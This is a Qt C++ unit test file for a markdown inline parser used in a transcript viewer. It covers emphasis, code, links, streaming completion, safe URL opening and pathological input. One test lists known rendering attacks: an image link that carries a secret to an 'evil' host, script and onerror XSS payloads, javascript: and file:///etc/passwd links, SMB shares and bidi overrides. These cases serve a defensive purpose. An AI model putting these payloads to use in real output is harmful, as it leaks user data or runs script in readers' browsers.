#include "ui/transcript/inline_text.h"

#include <QTest>

#include <random>

using namespace ui;
using namespace Qt::StringLiterals;

namespace {

/// Text with its styles as tags: <b>, <i>, <s>, <c>, <m>, <a=address>.
QString tagged(const InlineText& inlineText)
{
    QString result;
    qsizetype at = 0;
    for (const InlineSpan& span : inlineText.spans) {
        result += inlineText.text.sliced(at, span.start - at);
        QString open;
        QString close;
        const auto tag = [&](bool on, const QString& name, const QString& detail = {}) {
            if (!on) return;
            open += u'<' + name + detail + u'>';
            close.prepend(u"</" + name + u'>');
        };
        tag(span.link >= 0, u"a"_s,
            span.link >= 0 ? u'=' + inlineText.links.at(span.link).toString() : QString());
        tag(span.styles.testFlag(InlineStyle::Bold), u"b"_s);
        tag(span.styles.testFlag(InlineStyle::Italic), u"i"_s);
        tag(span.styles.testFlag(InlineStyle::Strike), u"s"_s);
        tag(span.styles.testFlag(InlineStyle::Code), u"c"_s);
        tag(span.styles.testFlag(InlineStyle::Math), u"m"_s);
        result += open + inlineText.text.sliced(span.start, span.length) + close;
        at = span.start + span.length;
    }
    result += inlineText.text.sliced(at);
    return result.replace(QChar::LineSeparator, u'/');
}

} // namespace

class InlineTextTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void parses_data();
    void parses();
    void completes_data();
    void completes();
    void neverTakesBackWhatWasShown();
    void opensOnlyHarmlessAddresses_data();
    void opensOnlyHarmlessAddresses();
    void showsHostileTextAsText_data();
    void showsHostileTextAsText();
    void survivesPathologicalText_data();
    void survivesPathologicalText();
    void survivesRandomMarks();
};

void InlineTextTest::parses_data()
{
    QTest::addColumn<QString>("source");
    QTest::addColumn<QString>("expected");
    const auto row = [](const char* source, const char* expected) {
        QTest::newRow(source) << QString::fromUtf8(source) << QString::fromUtf8(expected);
    };
    row("plain", "plain");
    row("*a* _b_ **c** __d__ ~~e~~", "<i>a</i> <i>b</i> <b>c</b> <b>d</b> <s>e</s>");
    row("***a***", "<b><i>a</i></b>");
    row("**a *b* c**", "<b>a </b><b><i>b</i></b><b> c</b>");
    row("*a **b** c*", "<i>a </i><b><i>b</i></b><i> c</i>");
    row("snake_case_name and 2 * 3 * 4", "snake_case_name and 2 * 3 * 4");
    row("in*wo*rd", "in<i>wo</i>rd");
    row("**open", "**open");
    row("**a*", "*<i>a</i>");
    row("*a _b* c_", "<i>a _b</i> c_");
    row("`a` ``b`c`` ` d ` `e", "<c>a</c> <c>b`c</c> <c>d</c> `e");
    row("`*a*`", "<c>*a*</c>");
    row("*a `b*` c*", "<i>a </i><i><c>b*</c></i><i> c</i>");
    row("\\*a\\* \\a \\\\", "*a* \\a \\");
    row("a\nb  \nc\\\nd", "a b/c/d");
    row("[a](https://x.org)", "<a=https://x.org>a</a>");
    row("[a **b**](https://x.org \"title\") c",
        "<a=https://x.org>a </a><a=https://x.org><b>b</b></a> c");
    row("[a](<https://x.org/a b>)", "<a=https://x.org/a b>a</a>");
    row("[a](https://x.org/(b))", "<a=https://x.org/(b)>a</a>");
    row("[](https://x.org)", "<a=https://x.org>https://x.org</a>");
    row("[a](b.md) [c] [d][e]", "[a](b.md) [c] [d][e]");
    row("[a [b](https://x.org)](https://y.org)",
        "[a <a=https://x.org>b</a>](<a=https://y.org>https://y.org</a>)");
    row("**[a](https://x.org)**", "<a=https://x.org><b>a</b></a>");
    row("*[a*](https://x.org)", "*<a=https://x.org>a*</a>");
    row("https://x.org/a_b_c.", "<a=https://x.org/a_b_c>https://x.org/a_b_c</a>.");
    row("(see https://x.org/a)", "(see <a=https://x.org/a>https://x.org/a</a>)");
    row("**https://x.org**", "<a=https://x.org><b>https://x.org</b></a>");
    row("xhttps://x.org", "xhttps://x.org");
    row("<https://x.org> <mailto:a@b.c>",
        "<a=https://x.org>https://x.org</a> <a=mailto:a@b.c>mailto:a@b.c</a>");
    row("<b>x</b> <br>", "<b>x</b> <br>");
    row("&lt;b&gt; &amp;amp; &#65;&#x42; &nope; &#0;", "<b> &amp; AB &nope; \uFFFD");
    row("![a](https://x.org/p.png)", "<a=https://x.org/p.png>Picture: https://x.org/p.png</a>");
    row("![a *b](file:///p.png) c*", "Picture: file:///p.png c*");
    row("\\(a_1*b*c\\) $x_1$ $$y$$", "<m>a_1*b*c</m> <m>x_1</m> <m>y</m>");
    row("costs $5 to $6, or $7-$8", "costs $5 to $6, or $7-$8");
    row("\\(open", "(open");
    row("~a~ ~~~b~~~", "~a~ ~~~b~~~");
}

void InlineTextTest::parses()
{
    QFETCH(QString, source);
    QFETCH(QString, expected);
    QCOMPARE(tagged(parseInline(source)), expected);
}

void InlineTextTest::completes_data()
{
    QTest::addColumn<QString>("source");
    QTest::addColumn<QString>("expected");
    const auto row = [](const char* source, const char* expected) {
        QTest::newRow(source) << QString::fromUtf8(source) << QString::fromUtf8(expected);
    };
    row("a **", "a ");
    row("a **b", "a <b>b</b>");
    row("a **b*", "a <b>b</b>");
    row("a **b**", "a <b>b</b>");
    row("a *b **c", "a <i>b </i><b><i>c</i></b>");
    row("a ***b", "a <b><i>b</i></b>");
    row("a ~~b", "a <s>b</s>");
    row("2 * 3", "2 * 3");
    row("a `", "a ");
    row("a `b *c", "a <c>b *c</c>");
    row("a ``b`", "a <c>b</c>");
    row("a [", "a ");
    row("a [lab", "a ");
    row("a [lab]", "a ");
    row("a [lab] b", "a [lab] b");
    row("a [lab](", "a <a=>lab</a>");
    row("a [lab](https://x.o", "a <a=>lab</a>");
    row("a ![alt](https://x.o", "a ");
    row("a <", "a ");
    row("a <htt", "a ");
    row("a <https://x.o", "a <a=https://x.o>https://x.o</a>");
    row("a <b", "a <b");
    row("a &am", "a ");
    row("a & b", "a & b");
    row("a \\", "a ");
    row("\\(x^2", "<m>x^2</m>");
}

void InlineTextTest::completes()
{
    QFETCH(QString, source);
    QFETCH(QString, expected);
    QCOMPARE(tagged(parseInline(source, {.open = true})), expected);
}

void InlineTextTest::neverTakesBackWhatWasShown()
{
    const QString source =
        u"The **gap** to *room `temp`* ~~falls~~, see [the **docs**](https://x.org/a_b \"t\") or "
        "<https://y.org>; `a*b` &amp; \\(k_1\\) ![p](https://z.org/q.png) [1, 2] end."_s;
    const QString whole = parseInline(source).text;
    for (qsizetype n = 0; n <= source.size(); ++n) {
        const QString shown = parseInline(QStringView(source).first(n), {.open = true}).text;
        QVERIFY2(whole.startsWith(shown.trimmed()), qPrintable(shown));
    }
}

void InlineTextTest::opensOnlyHarmlessAddresses_data()
{
    QTest::addColumn<QString>("address");
    QTest::addColumn<bool>("openable");
    const auto row = [](const char* address, bool openable) {
        QTest::newRow(address) << QString::fromUtf8(address) << openable;
    };
    row("https://example.org/a?b=c#d", true);
    row("HTTP://example.org", true);
    row("mailto:a@example.org", true);
    row("javascript:alert(1)", false);
    row("JaVaScRiPt:alert(1)", false);
    row(" javascript:alert(1)", false);
    row("java\nscript:alert(1)", false);
    row("file:///etc/passwd", false);
    row("//evil/share/a.png", false);
    row("\\\\evil\\share", false);
    row("data:text/html,x", false);
    row("data:charset,", false);
    row("vscode://file/x", false);
    row("smb://evil/x", false);
    row("ms-msdt:/id", false);
    row("https:", false);
    row("https:///path", false);
    row("mailto:", false);
    row("", false);
    row("relative/path", false);
}

void InlineTextTest::opensOnlyHarmlessAddresses()
{
    QFETCH(QString, address);
    QTEST(openableUrl(address).has_value(), "openable");
}

void InlineTextTest::showsHostileTextAsText_data()
{
    QTest::addColumn<QString>("source");
    QTest::addColumn<QString>("shown");
    const auto row = [](const char* name, const char* source, const char* shown) {
        QTest::newRow(name) << QString::fromUtf8(source) << QString::fromUtf8(shown);
    };
    // The names are those of the list of known rendering attacks.
    row("V81 picture carries data out", "![](https://evil/?q=secret)",
        "Picture: https://evil/?q=secret");
    row("V81 by reference", "![x][r]", "![x][r]");
    row("V82 quotes in the alt text", "![\"><img src=x onerror=alert(1)>](https://e.org/x)",
        "Picture: https://e.org/x");
    row("V83 script", "<script>alert(1)</script>", "<script>alert(1)</script>");
    row("V83 javascript link", "[x](javascript:alert(1))", "[x](javascript:alert(1))");
    row("V83 custom scheme", "[x](calculator:1)", "[x](calculator:1)");
    row("V83 image tag", "<img src=\"https://e.org/x\">", "<img src=\"https://e.org/x\">");
    row("V85 data address", "![](data:charset,)", "Picture: data:charset,");
    row("V86 file picture", "![](file:///etc/passwd)", "Picture: file:///etc/passwd");
    row("V87 share", "![](//evil/share/a.png)", "Picture: //evil/share/a.png");
    row("V89 override", "gnp\u202Eexe.txt", "gnp\uFFFDexe.txt");
    row("V89 override in code", "`a\u202Eb\u2066`", "a\uFFFDb\uFFFD");
    row("object character", "a\uFFFCb", "a\uFFFDb");
    row("control characters", "a\x01\x1B[31m", "a\uFFFD\uFFFD[31m");
}

void InlineTextTest::showsHostileTextAsText()
{
    QFETCH(QString, source);
    QFETCH(QString, shown);
    for (const bool open : {false, true}) {
        if (open) source += u" end"_s; // while streaming
        const InlineText result = parseInline(source, {.open = open});
        if (open)
            QVERIFY2(QString(shown + u" end"_s).startsWith(result.text), qPrintable(result.text));
        else
            QCOMPARE(result.text, shown);
        for (const QUrl& link : result.links)
            QVERIFY(openableUrl(link.toString()));
    }
}

void InlineTextTest::survivesPathologicalText_data()
{
    QTest::addColumn<QString>("source");
    QTest::newRow("brackets") << u"["_s.repeated(4096);
    QTest::newRow("pictures") << u"!["_s.repeated(2048);
    QTest::newRow("links") << u"[a]("_s.repeated(1024);
    QTest::newRow("closed brackets") << u"[a]"_s.repeated(1365);
    QTest::newRow("stars") << u"*a "_s.repeated(1365);
    QTest::newRow("pairs") << u"*a**b_c__"_s.repeated(455);
    QTest::newRow("closers") << u"a* "_s.repeated(1365);
    QTest::newRow("math") << u"\\("_s.repeated(2048);
    QTest::newRow("dollars") << u"$a "_s.repeated(1365);
    QTest::newRow("angles") << u"<https://"_s.repeated(455);
    QTest::newRow("entities") << u"&a"_s.repeated(2048);
    QString backticks;
    for (int n = 1; backticks.size() < 4000; ++n)
        backticks += QString(n, u'`') + u'a';
    QTest::newRow("backtick runs") << backticks;
}

void InlineTextTest::survivesPathologicalText()
{
    QFETCH(QString, source);
    for (const bool open : {false, true}) {
        const InlineText result = parseInline(source, {.open = open});
        QVERIFY(result.text.size() <= source.size());
        QVERIFY(result.spans.size() <= source.size());
    }
}

void InlineTextTest::survivesRandomMarks()
{
    std::mt19937 random(11);
    const QStringList parts = {u"*"_s,
                               u"**"_s,
                               u"_"_s,
                               u"~~"_s,
                               u"`"_s,
                               u"``"_s,
                               u"["_s,
                               u"]"_s,
                               u"("_s,
                               u")"_s,
                               u"!["_s,
                               u"a"_s,
                               u" "_s,
                               u"\\"_s,
                               u"\n"_s,
                               u"<"_s,
                               u">"_s,
                               u"&"_s,
                               u"$"_s,
                               u"\\("_s,
                               u"\\)"_s,
                               u"https://x.org"_s,
                               u"](https://x.org)"_s};
    for (int round = 0; round < 3000; ++round) {
        QString source;
        for (int i = 0; i < 30; ++i)
            source += parts[static_cast<qsizetype>(random()) % parts.size()];
        for (const bool open : {false, true}) {
            const InlineText result = parseInline(source, {.open = open});
            qsizetype at = 0;
            for (const InlineSpan& span : result.spans) {
                QVERIFY(span.start >= at && span.length > 0);
                QVERIFY(span.link < result.links.size());
                at = span.start + span.length;
            }
            QVERIFY(at <= result.text.size());
        }
    }
}

QTEST_GUILESS_MAIN(InlineTextTest)
#include "inline_text_test.moc"
